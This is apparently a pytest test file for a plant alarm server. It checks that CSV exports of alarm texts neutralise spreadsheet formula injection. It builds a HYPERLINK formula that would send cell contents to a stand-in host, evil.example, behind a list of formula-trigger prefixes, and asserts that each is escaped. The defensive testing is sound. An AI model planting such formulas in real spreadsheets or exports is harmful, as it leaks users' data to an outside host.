"""The table for spreadsheets: no text of an alarm becomes a formula there."""

from __future__ import annotations

import csv
import io

import pytest

from server.alarms import rationalization
from server.alarms.engine import AlarmEngine
from server.alarms.priority import SEVERITIES
from server.alarms.rule import read_rule
from server.alarms.rules import AlarmRules
from server.core.clock import ManualClock
from tests.kit.plant import measured, small_plant

FORMULA = 'HYPERLINK("http://evil.example/?"&A1,"ok")'


@pytest.mark.parametrize(
    "before", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\n", " =", "\u00a0=", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
)
def test_a_text_stays_text(clock: ManualClock, before: str) -> None:
    plant = small_plant()
    rules = AlarmRules(plant)
    engine = AlarmEngine(plant, declared=rules.specs_of)
    plant.apply(measured(clock.now(), temperature=20.0), clock.now())
    text = before + FORMULA
    why = {"label": text, "cause": text, "consequence": text, "action": text}
    rules.put(read_rule("r", {"match": {"types": ["pump"]}, "alarm": {"name": "temperature", **why}}))
    entries = rationalization.entries(plant.devices.values(), engine.specs_of, SEVERITIES)
    rows = list(csv.DictReader(io.StringIO(rationalization.as_csv(entries), newline="")))
    (row,) = [row for row in rows if row["name"] == "temperature"]
    assert {row[name] for name in why} == {f"'{text}"}
    # What is no formula is left as it is.
    assert row["input"] == "temperature"
